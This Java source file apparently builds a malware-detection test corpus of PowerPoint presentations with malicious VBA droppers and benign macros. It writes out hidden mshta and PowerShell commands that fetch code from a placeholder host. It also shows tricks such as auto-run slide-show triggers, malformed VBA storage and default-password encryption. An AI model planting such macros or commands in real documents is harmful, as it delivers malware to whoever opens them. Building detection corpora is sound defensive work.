package org.peekaboo.bench;

import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.peekaboo.bench.DropperCorpus.Sample;
import org.peekaboo.bench.DropperMacros.Payload;
import org.peekaboo.office.testing.OfficeFiles;
import org.peekaboo.office.testing.PowerPointFiles;

/**
 * PowerPoint 97-2003 presentations (.ppt, and .pps, which opens straight into the slide show)
 * for the detection corpus: droppers whose VBA project runs by a slide-show procedure, an
 * add-in's Auto_Open or an ActiveX event on a slide and carries one of {@link DropperMacros}'
 * payloads, in presentations with slides as PowerPoint writes them (POI's HSLF), the VBA project
 * added by a fast-save edit compressed, uncompressed or without the VBAInfo pointer (as sloppy
 * generators write it), or inside a Word document embedded in the presentation, or encrypted
 * with PowerPoint's default password; and
 * presentations with harmless macros. Words in modules only: nothing here can run.
 */
final class DropperPowerPoint {

    /** A PowerPoint trigger: its tag in file names, its declaration, the module it lives in. */
    record Trigger(String tag, String declaration, String module) {
    }

    static final List<Trigger> TRIGGERS = List.of(
            new Trigger("slideshow-pagechange", "Sub OnSlideShowPageChange(ByVal SSW As SlideShowWindow)", "Module1"),
            new Trigger("slideshow-terminate", "Sub OnSlideShowTerminate(ByVal SSW As SlideShowWindow)", "Module1"),
            new Trigger("addin-auto-open", "Sub Auto_Open()", "Module1"),
            new Trigger("inkpicture-painted",
                    "Private Sub InkPicture1_Painted(ByVal hDC As Long, ByVal Rect As Object)", "Slide1"));

    private DropperPowerPoint() {
    }

    /** The malicious presentations, then the benign ones. */
    static List<Sample> samples() {
        List<Sample> samples = new ArrayList<>(malicious());
        samples.addAll(benign());
        return samples;
    }

    /** One presentation per payload, the triggers and storage variants taken in turn. */
    static List<Sample> malicious() {
        List<Sample> samples = new ArrayList<>();
        List<Payload> payloads = DropperMacros.payloads();
        for (int p = 0; p < payloads.size(); p++) {
            Payload payload = payloads.get(p);
            Trigger trigger = TRIGGERS.get(p % TRIGGERS.size());
            List<String> lines = new ArrayList<>(payload.declarations());
            lines.add(trigger.declaration());
            payload.body().forEach(line -> lines.add("    " + line));
            lines.add("End Sub");
            Map<String, String> modules = OfficeFiles.module(trigger.module(), lines.toArray(String[]::new));
            String storage = switch (p % 3) {
                case 0 -> "";
                case 1 -> "-uncompressed";
                default -> "-no-vbainfo";
            };
            byte[] slides = PowerPointFiles.presentation("Rechnung " + (4711 + p),
                    "Bitte die Bildschirmpraesentation starten");
            byte[] bytes = PowerPointFiles.withVba(slides, modules, p % 3 != 1, p % 3 != 2);
            String extension = trigger.tag().startsWith("slideshow") ? "pps" : "ppt";
            samples.add(new Sample("malicious", "pp%02d-%s-%s%s.%s".formatted(p + 1, trigger.tag(), payload.tag(),
                    storage, extension), bytes));
        }
        byte[] doc = OfficeFiles.doc(OfficeFiles.module("ThisDocument", "Private Sub Document_Open()",
                "    CreateObject(\"WScript.Shell\").Run \"mshta http://example.invalid/slide.hta\", 0",
                "End Sub"));
        samples.add(new Sample("malicious", "pp%02d-embedded-doc-document-open.ppt".formatted(payloads.size() + 1),
                PowerPointFiles.presentation(doc, "Lieferschein", "Doppelklick auf das Dokument")));
        // PowerPoint opens a presentation encrypted with its default password without asking.
        Map<String, String> pageChange = OfficeFiles.module("Module1",
                "Sub OnSlideShowPageChange(ByVal SSW As SlideShowWindow)",
                "    CreateObject(\"WScript.Shell\").Run \"powershell -w hidden -c iwr http://example.invalid/e\", 0",
                "End Sub");
        samples.add(new Sample("malicious", "pp%02d-enc-default-password-slideshow-pagechange.pps"
                .formatted(payloads.size() + 2), PowerPointFiles.encrypted(PowerPointFiles.withVba(
                        PowerPointFiles.presentation("Vertraulich"), pageChange), "/01Hannes Ruescher/01")));
        return samples;
    }

    /**
     * Presentations as people have them: an empty project left behind by a deleted macro, a
     * helper that numbers slides, and a slide-show procedure that only shows the slide number.
     */
    static List<Sample> benign() {
        Map<String, Map<String, String>> kinds = new LinkedHashMap<>();
        kinds.put("empty-project", OfficeFiles.module("Module1"));
        kinds.put("number-slides", OfficeFiles.module("Module1", "Option Explicit", "Sub NumberSlides()",
                "    Dim s As Slide", "    For Each s In ActivePresentation.Slides",
                "        s.HeadersFooters.SlideNumber.Visible = msoTrue", "    Next s", "End Sub"));
        kinds.put("slideshow-counter", OfficeFiles.module("Module1",
                "Sub OnSlideShowPageChange(ByVal SSW As SlideShowWindow)",
                "    SSW.View.Slide.Shapes(1).TextFrame.TextRange.Text = \"Slide \" & SSW.View.CurrentShowPosition",
                "End Sub"));
        List<Sample> samples = new ArrayList<>();
        for (Map.Entry<String, Map<String, String>> kind : kinds.entrySet()) {
            String extension = kind.getKey().startsWith("slideshow") ? "pps" : "ppt";
            samples.add(new Sample("benign-macros", "pp-%s.%s".formatted(kind.getKey(), extension),
                    PowerPointFiles.withVba(PowerPointFiles.presentation("Quartalszahlen", "Ausblick"),
                            kind.getValue())));
        }
        return samples;
    }
}
